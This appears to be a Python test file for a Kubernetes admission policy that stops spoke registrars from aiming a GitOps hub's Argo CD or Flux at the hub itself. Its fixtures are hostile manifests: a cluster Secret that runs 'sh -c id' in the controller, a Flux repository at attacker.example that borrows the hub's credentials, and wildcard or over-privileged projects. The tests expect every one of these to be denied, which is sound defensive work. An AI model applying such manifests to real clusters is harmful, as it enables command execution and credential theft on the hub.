"""The hub's admission policy for registrars (fleet_manifests.registrar_policy), evaluated with a
CEL implementation (cel-python) as the API server evaluates it: the registrations the spokes of
the example really create pass, and each way a registrar could aim the hub's engine at the hub
is refused. The API server runs `matchConditions`, then every validation, on the object after
defaulting, with a Secret's `stringData` merged into `data` (bytes); a false or failing
validation denies (failurePolicy Fail)."""

from __future__ import annotations

import base64

import celpy
import pytest

from components.common.deep_merge import merge
from components.gitops.fleet_manifests import REGISTRAR_GROUP, registrar_policy, spoke_addons
from tests.conftest import ENGINES
from tests.program.test_fleet import SPOKES, _plural, _registrations, spoke
from tools.render.manifests import plain

_ENV = celpy.Environment()
# The hub's root repository (fleet-hub's gitops.repoUrl, Pulumi.yaml's default).
HUB_REPO = "https://github.com/groundwork-dev/groundwork.git"


def _request(obj: dict, operation: str = "CREATE", group: str = REGISTRAR_GROUP) -> dict:
    return {"operation": operation, "resource": {"resource": _plural(obj["kind"])},
            "userInfo": {"username": "arn:aws:sts::1:assumed-role/deployer/x",
                         "groups": [group, "system:authenticated"]}}


def _as_stored(obj: dict) -> dict:
    """What admission sees: stringData merged into data, as bytes."""
    obj = dict(obj)
    if obj["kind"] == "Secret" and "stringData" in obj:
        obj["data"] = {key: base64.b64encode(value.encode()).decode()
                       for key, value in obj.pop("stringData").items()}
    return obj


def _activation(obj: dict, operation: str, group: str) -> dict:
    stored = _as_stored(obj)
    values = {"request": celpy.json_to_cel(_request(obj, operation, group)),
              "object": celpy.json_to_cel(stored), "oldObject": celpy.json_to_cel(stored)}
    if stored.get("data") and obj["kind"] == "Secret":
        values["object"]["data"] = celpy.celtypes.MapType({
            celpy.celtypes.StringType(key): celpy.celtypes.BytesType(base64.b64decode(value))
            for key, value in stored["data"].items()})
    return values


def denials(engine: str, obj: dict, operation: str = "CREATE",
            group: str = REGISTRAR_GROUP) -> list[str]:
    """The messages of the validations that deny `obj`, [] when admitted or not matched."""
    policy, _ = registrar_policy(engine, HUB_REPO)
    spec = policy["spec"]
    activation = _activation(obj, operation, group)
    if not all(_true(condition["expression"], activation)
               for condition in spec["matchConditions"]):
        return []
    return [validation["message"] for validation in spec["validations"]
            if not _true(validation["expression"], activation)]


def _true(expression: str, activation: dict) -> bool:
    """Whether the expression evaluates to true; an evaluation error counts as false."""
    try:
        result = _ENV.program(_ENV.compile(expression)).evaluate(activation)
    except celpy.CELEvalError:
        return False
    return isinstance(result, celpy.celtypes.BoolType) and bool(result)


@pytest.mark.parametrize("stack,engine", [(s, e) for s in SPOKES for e in ENGINES])
def test_the_registrations_the_spokes_create_are_admitted(stack, engine):
    objects = [plain(r.inputs) for r in _registrations(spoke(stack, engine))]
    # Argo CD's bridge patch lands on the cluster Secret: admitted as the merged Secret.
    merged: dict[tuple[str, str], dict] = {}
    for obj in objects:
        key = (obj["kind"], obj["metadata"]["name"])
        merged[key] = merge(merged.get(key, {}), obj)
    assert len(merged) >= 3
    for obj in merged.values():
        assert denials(engine, obj) == [], obj["metadata"]["name"]
        assert denials(engine, obj, "DELETE") == []


def _secret(name: str, server: str, **annotations: str) -> dict:
    return {"apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": name, "namespace": "argocd",
                         "labels": {"argocd.argoproj.io/secret-type": "cluster"},
                         "annotations": annotations},
            "stringData": {"name": name, "server": server, "config": "{}"}}


SPOKE_SERVER = "https://ABC.gr7.eu-west-1.eks.amazonaws.com"
ARGO_ATTACKS = {
    "argo cd's own secret": {"apiVersion": "v1", "kind": "Secret",
                             "metadata": {"name": "argocd-secret", "namespace": "argocd"},
                             "stringData": {"admin.password": "x"}},
    "the hub as a spoke": _secret("spoke-x", "https://kubernetes.default.svc"),
    "the hub's add-ons project": _secret("spoke-x", SPOKE_SERVER, addons_project="addons"),
    "a command in the controller": {**_secret("spoke-x", SPOKE_SERVER), "stringData": {
        "name": "spoke-x", "server": SPOKE_SERVER,
        "config": '{"execProviderConfig": {"command": "sh", "args": ["-c", "id"]}}'}},
    "a bridge the hub's own tree selects": {**_secret("spoke-x", SPOKE_SERVER), "metadata": {
        "name": "spoke-x", "namespace": "argocd",
        "labels": {"argocd.argoproj.io/secret-type": "cluster", "environment": "prod"}}},
    "argo cd's self-management": {**_secret("spoke-x", SPOKE_SERVER), "metadata": {
        "name": "spoke-x", "namespace": "argocd",
        "labels": {"argocd.argoproj.io/secret-type": "cluster", "fleet_role": "spoke",
                   "argocd_self_managed": "true"}}},
    "a project reaching the hub": {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject",
        "metadata": {"name": "spoke-x", "namespace": "argocd"},
        "spec": {"sourceRepos": ["https://charts.jetstack.io"],
                 "destinations": [{"server": "https://kubernetes.default.svc",
                                   "namespace": "kube-system"}]}},
    "a project of any cluster": {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject",
        "metadata": {"name": "spoke-x", "namespace": "argocd"},
        "spec": {"sourceRepos": ["*"], "destinations": [{"server": "*", "namespace": "*"}]}},
    "a project with a token role": {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject",
        "metadata": {"name": "spoke-x", "namespace": "argocd"},
        "spec": {"sourceRepos": ["https://charts.jetstack.io"],
                 "destinations": [{"server": SPOKE_SERVER, "namespace": "a"}],
                 "roles": [{"name": "ci", "policies": ["p, proj:spoke-x:ci, *, *, *, allow"]}]}},
    "an application in the hub's project": {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
        "metadata": {"name": "spoke-x-web", "namespace": "argocd"},
        "spec": {"project": "addons", "source": {"repoURL": "https://charts.jetstack.io"},
                 "destination": {"server": SPOKE_SERVER, "namespace": "a"}}},
    "an application on the hub": {
        "apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
        "metadata": {"name": "spoke-x-web", "namespace": "argocd"},
        "spec": {"project": "spoke-x-apps", "source": {"repoURL": "https://x/y.git"},
                 "destination": {"name": "in-cluster", "namespace": "a"}}},
}
def _addon_list(name: str, **spec) -> dict:
    """A spoke's add-on list as groundwork writes it, with `spec` changed."""
    obj = spoke_addons(name)
    return {**obj, "spec": {**obj["spec"], **spec}}


FLUX_ATTACKS = {
    "the hub's variables": {"apiVersion": "v1", "kind": "ConfigMap",
                            "metadata": {"name": "cluster-vars", "namespace": "flux-system"},
                            "data": {"environment": "x"}},
    "the hub's own names": {"apiVersion": "v1", "kind": "ConfigMap",
                            "metadata": {"name": "spoke-x-cluster-vars",
                                         "namespace": "flux-system"},
                            "data": {"cluster_vars": "spoke-x-cluster-vars", "fleet_suffix": "",
                                     "fleet_role": "spoke"}},
    "the hub's credentials elsewhere": {
        "apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "GitRepository",
        "metadata": {"name": "spoke-x-web", "namespace": "flux-system"},
        "spec": {"url": "https://attacker.example/repo.git", "interval": "5m",
                 "secretRef": {"name": "flux-system"}}},
    "a kustomization of the hub": {
        "apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
        "metadata": {"name": "spoke-x-web", "namespace": "flux-system"},
        "spec": {"path": "./evil", "sourceRef": {"kind": "GitRepository", "name": "spoke-x-web"},
                 "interval": "5m", "prune": True}},
    "the add-on list without its patches": _addon_list("spoke-x", patches=[]),
    "the add-on list with another spoke's kubeConfig": _addon_list(
        "spoke-x", patches=spoke_addons("spoke-y")["spec"]["patches"]),
    "the add-on list renamed into the hub": _addon_list("spoke-x", targetNamespace="kube-system"),
    "the add-on list with another spoke's variables": _addon_list(
        "spoke-x", postBuild={"substituteFrom": [{"kind": "ConfigMap",
                                                  "name": "spoke-y-cluster-vars"}]}),
    "the add-on list as another identity": {
        "apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
        "metadata": {"name": "spoke-x", "namespace": "flux-system"},
        "spec": {"path": "./gitops/addons/flux", "interval": "5m", "prune": True,
                 "sourceRef": {"kind": "GitRepository", "name": "flux-system"},
                 "serviceAccountName": "kustomize-controller"}},
}


def test_the_add_on_list_as_written_is_admitted():
    assert denials("flux", _addon_list("spoke-x")) == []


@pytest.mark.parametrize("engine,case", [("argocd", c) for c in ARGO_ATTACKS]
                         + [("flux", c) for c in FLUX_ATTACKS])
def test_a_registrar_cannot_aim_the_hubs_engine_at_the_hub(engine, case):
    obj = (ARGO_ATTACKS | FLUX_ATTACKS)[case]
    assert denials(engine, obj), case
    # Anyone else (an administrator) is not this policy's business.
    assert denials(engine, obj, group="platform-admins") == []
